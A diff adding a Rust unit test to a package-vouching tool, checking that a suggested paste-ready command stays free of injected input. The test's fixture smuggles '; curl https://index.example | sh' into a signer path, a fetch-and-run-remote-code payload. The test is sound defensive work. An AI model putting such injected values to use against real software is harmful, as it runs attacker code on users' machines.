@@ -131,6 +131,15 @@ fn suggestions_can_be_typed() {
 }
 
 #[test]
+fn a_suggestion_is_safe_to_paste() {
+    let ada = signer("ada").replace("trust/", "trust/; curl https://index.example | sh");
+    let text = policy_text(&[PYPI, &ada, &signer("bob")], "ada and bob", "");
+    let said: Vec<String> =
+        report(&listed(), &text).files[0].suggest.iter().map(ToString::to_string).collect();
+    assert_eq!(said[0], "covouch vouch requests==2.32.3 --to … --key …");
+}
+
+#[test]
 fn nobody_is_told_how_to_let_in_what_is_refused() {
     let refused = report(listed().vetoes("data", &file(WHEEL)), &team("pypi", "vetoes")).files.remove(0);
     assert!(refused.suggest.is_empty() && refused.missing.is_empty());
